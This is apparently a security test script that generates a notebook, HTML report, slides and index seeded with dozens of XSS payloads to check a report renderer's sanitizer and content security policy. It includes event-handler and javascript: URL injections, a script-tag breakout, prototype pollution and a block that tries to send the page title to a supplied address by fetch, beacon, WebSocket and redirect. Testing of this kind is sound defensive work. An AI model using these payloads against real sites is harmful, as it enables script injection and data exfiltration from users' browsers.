"""Writes a report, slides and an index full of attempts to execute something or to fetch something.

Usage: attacks.py FOLDER ADDRESS [--raw]

Each attempt that executes would add its name to `window.hits`; what is fetched would arrive at ADDRESS. With --raw the HTML
of the notebook is not sanitized, so that the page's security policy stands alone.
"""

import argparse
import base64
import json
from pathlib import Path
from typing import Any

import conftest  # noqa: F401 (finds the modules of tools/reports)
import nbformat
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output

import render
from build_reports import build_index
from notebooks import CHECK, FIGURE

ALT = "A line that rises from one to two, for the test."


def hit(name: str) -> str:
    return f"(window.hits=window.hits||[]).push('{name}')"


def image(name: str) -> str:
    return f'<img src=x onerror="{hit(name)}">'


def script(name: str) -> str:
    return f"<script>{hit(name)}</script>"


SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{hit("svg")}">{script("svg script")}</svg>'

MARKDOWN = {
    "script element": f"text {script('markdown script')}",
    "image with handler": image("markdown image"),
    "svg with handler": f'<svg onload="{hit("svg onload")}"></svg>',
    "link": "[x](javascript:" + hit("link").replace("(", "%28").replace(")", "%29") + ")",
    "raw link": f'<a href="javascript:{hit("raw link")};void 0">x</a>',
    "raw link with a tab": f'<a href="java\tscript:{hit("tab link")};void 0">x</a>',
    "link to a page of its own": f'<a href="data:text/html,{script("data link")}">x</a>',
    "frame with content": f'<iframe srcdoc="<script>parent.{hit("srcdoc")}</script>"></iframe>',
    "frame with script address": f'<iframe src="javascript:parent.{hit("frame")}"></iframe>',
    "object": f'<object data="data:text/html,<script>parent.{hit("object")}</script>"></object>',
    "embed": f'<embed src="data:text/html,{script("embed")}">',
    "details": f'<details open ontoggle="{hit("toggle")}"><summary>s</summary>x</details>',
    "input with focus": f'<input autofocus onfocus="{hit("focus")}">',
    "form": f'<form action="javascript:{hit("form")}"><button>x</button></form>',
    "base": '<base href="javascript:/a/-">',
    "formula with link": r'$\href{javascript:(window.hits=window.hits||[]).push("formula")}{x}$',
    "formula with class": r"$\class{x\" onclick=\"1}{y}$",
    "mathml": f"<math><mtext>{image('mathml')}</mtext></math>",
    "table": f"| a | b |\n|---|---|\n| {image('table')} | {script('table script')} |",
    "heading": f"## Heading {image('heading')}",
    "code": f"```html\n{script('fence')}\n```\n`{image('inline code')}`",
    "alternative of an image": f'![" onerror="{hit("image alt")}](x.png)',
    "title of an image": f'![a](x.png "\\" onerror=\\"{hit("image title")}")',
    "picture as data": f'<img src="data:image/svg+xml;base64,{base64.b64encode(SVG.encode()).decode()}">',
    "language of code": f'```ts" onmouseover="{hit("language")}\nconst x = 1;\n```',
    "style with script": f'<div style="background:url(javascript:{hit("style")})">x</div>',
    "marquee": f'<marquee onstart="{hit("marquee")}">x</marquee>',
    "video": f'<video><source onerror="{hit("video")}"></video>',
    "template": f"<template>{script('template')}</template>",
    "noscript": f'<noscript><p title="</noscript>{image("noscript")}"></noscript>',
    "comment": f'<!--><img src=x onerror="{hit("comment")}">-->',
    "unclosed": f'<img src=x onerror="{hit("unclosed")}" //',
}

LEAKS = """<script>(async () => {
  const address = %s, attempt = async (make) => { try { await make(); } catch {} };
  await attempt(() => fetch(address + '/fetch', { mode: 'no-cors' }));
  await attempt(() => navigator.sendBeacon(address + '/beacon', 'x'));
  await attempt(() => { new Image().src = address + '/image'; });
  await attempt(() => new WebSocket(address.replace('http', 'ws') + '/socket'));
  await attempt(() => import(address + '/import'));
  await attempt(() => window.open(address + '/window'));
  await attempt(() => { location = address + '/location?' + encodeURIComponent(document.title); });
})()</script>"""


def display(data: dict[str, Any], metadata: dict[str, Any] | None = None) -> nbformat.NotebookNode:
    return new_output("display_data", data=data, metadata=metadata or {})


def figure(**parts: Any) -> dict[str, Any]:
    return {"data": [{"type": "scatter", "x": [1, 2], "y": [1, 2]}], "layout": {}, **parts}


def outputs(address: str) -> dict[str, list[nbformat.NotebookNode]]:
    plain = {"text/plain": "x"}
    linked = {
        "title": {"text": f'<a href="javascript:{hit("plot title")}">T</a>{image("plot title image")}'},
        "xaxis": {"title": {"text": f'<a href="javascript:{hit("axis")}" target="_self">x</a>'}},
        "annotations": [{"text": f'<a href="data:text/html,{script("note")}">d</a>', "x": 1, "y": 1}],
    }
    remote = {"images": [{"source": f"{address}/plot", "xref": "paper", "yref": "paper", "x": 0, "y": 1}]}
    polluting = json.loads('{"data": [{"type": "scatter", "__proto__": {"polluted": 1}}], "layout": {}}')
    closing = [{"type": "scatter", "x": [1], "y": [1], "name": f"</script>{script('closes')}<!--<script>"}]
    check = {"id": "LI-1", "claim": "c", "value": 1, "interval": [0, 2], "source": "s", "passed": True}
    return {
        "html script": [display({"text/html": script("html script"), **plain})],
        "html image": [display({"text/html": image("html image"), **plain})],
        "markdown": [display({"text/markdown": script("output markdown"), **plain})],
        "svg": [display({"image/svg+xml": SVG, "text/plain": f'">{script("svg alt")}'})],
        "latex": [display({"text/latex": f"$x$</div>{script('latex')}", **plain})],
        "javascript": [display({"application/javascript": hit("javascript"), **plain})],
        "stdout": [
            new_output(
                "stream",
                name="stdout",
                text=f"{script('stdout')}{image('stdout image')}\x1b[31m\x1b]8;;javascript:alert(1)\x07link",
            )
        ],
        "stderr": [new_output("stream", name="stderr", text=script("stderr"))],
        "error": [
            new_output("error", ename=script("name"), evalue=image("value"), traceback=[script("traceback")])
        ],
        "figure with links": [display({FIGURE: figure(layout=linked), "text/plain": ALT})],
        "figure that closes its script": [display({FIGURE: figure(data=closing), "text/plain": ALT})],
        "alternative": [
            display(
                {FIGURE: figure(), "text/plain": f'">{script("alt")} {ALT}'},
                {"liandan": {"alt": f'">{script("alt")} {ALT}', "figure": f'">{script("figure id")}'}},
            )
        ],
        "figure with a remote picture": [display({FIGURE: figure(layout=remote), "text/plain": ALT})],
        "figure with a server": [
            display(
                {
                    FIGURE: figure(config={"plotlyServerURL": address, "showSendToCloud": True}),
                    "text/plain": ALT,
                }
            )
        ],
        "figure with a prototype": [display({FIGURE: polluting, "text/plain": ALT})],
        "figure of unknown kind": [
            display({FIGURE: figure(data=[{"type": "choropleth", "z": [1]}]), "text/plain": ALT})
        ],
        "figure that cannot be drawn": [
            display({FIGURE: {"data": [{"type": "scatter", "x": 5, "transforms": 3}]}, "text/plain": ALT})
        ],
        "figure that is none": [display({FIGURE: {"data": "nonsense", "layout": None}, "text/plain": ALT})],
        "texts of a check": [
            display(
                {
                    CHECK: {
                        **check,
                        "id": f"LI-1{script('id')}",
                        "claim": script("claim"),
                        "source": script("source"),
                    },
                    **plain,
                }
            )
        ],
        "value of a check": [
            display({CHECK: {**check, "value": f"{script('check value')}{image('check image')}"}, **plain})
        ],
        "content of a picture": [display({"image/png": f'">{script("png")}', **plain})],
        "alternative of a picture": [
            display({"image/png": "iVBORw0KGgo=", "text/plain": f'" onerror="{hit("png alt")}'})
        ],
        "result": [new_output("execute_result", data={"text/plain": script("result")}, execution_count=1)],
        "leaks": [display({"text/html": LEAKS % json.dumps(address), **plain})],
        "hides failures": [
            display({"text/html": f"<script>{hit('hides')};document.body.innerHTML=''</script>", **plain})
        ],
    }


def result(name: str, title: str) -> dict[str, Any]:
    def evil(part: str) -> str:
        return f'{script(part)}">{image(part)}'

    return {
        "name": name,
        "file": f"{name}.ipynb",
        "title": title + evil("title"),
        "status": "failed",
        "seconds": 1.0,
        "cells": 1,
        "checks": [
            {
                "id": "LI-1" + evil("check id"),
                "claim": evil("check claim"),
                "value": evil("result value"),
                "interval": [0, 2],
                "source": evil("check source"),
                "passed": False,
                "cell": 1,
            }
        ],
        "figures": [{"id": "f", "alt": ALT, "cell": 1}],
        "failures": [
            {
                "kind": "error",
                "message": evil("failure"),
                "cell": 1,
                "line": 1,
                "details": [evil("details")],
            }
        ],
        "inputs": "x",
        "solutions": False,
        "environment": {
            "date": "2026-01-01T00:00:00" + evil("date"),
            "commit": evil("commit"),
            "profile": "lesson",
            "os": evil("os"),
            "processor": evil("processor"),
            "tensorflow": evil("tensorflow"),
            "tensorflowJs": evil("tensorflowJs"),
            "device": evil("device"),
        },
    }


def main() -> None:
    parser = argparse.ArgumentParser()
    parser.add_argument("folder", type=Path)
    parser.add_argument("address")
    parser.add_argument("--raw", action="store_true")
    options = parser.parse_args()
    if options.raw:
        render.sanitized = lambda html: render.Markup(html)
    title = f"# Title {script('page title')} {image('page title image')}"
    notebook = new_notebook(cells=[new_markdown_cell(title)])
    # Before the attempts, which may swallow what follows them.
    shown = outputs(options.address)
    for name, found in shown.items():
        cell = new_code_cell(f"// {name} </pre></details>{script('source')}", execution_count=1)
        cell.outputs = found
        cell.metadata["execution"] = {"iopub.status.busy": script("time"), "shell.execute_reply": "y"}
        notebook.cells.append(cell)
    notebook.cells += [new_markdown_cell(source) for source in MARKDOWN.values()]
    facts = result("90-attacks", "T ")
    folder = options.folder
    (folder / "executed").mkdir(parents=True, exist_ok=True)
    nbformat.write(notebook, folder / "executed" / facts["file"])
    (folder / "90-attacks.html").write_text(render.render(notebook, facts), "utf8")
    (folder / "90-attacks.slides.html").write_text(render.render(notebook, facts, slides=True), "utf8")
    build_index([facts], folder, [{"name": "91-x", "title": script("waiting"), "state": script("state")}])
    print(json.dumps({"attempts": len(MARKDOWN) + len(shown) + 18}))


if __name__ == "__main__":
    main()
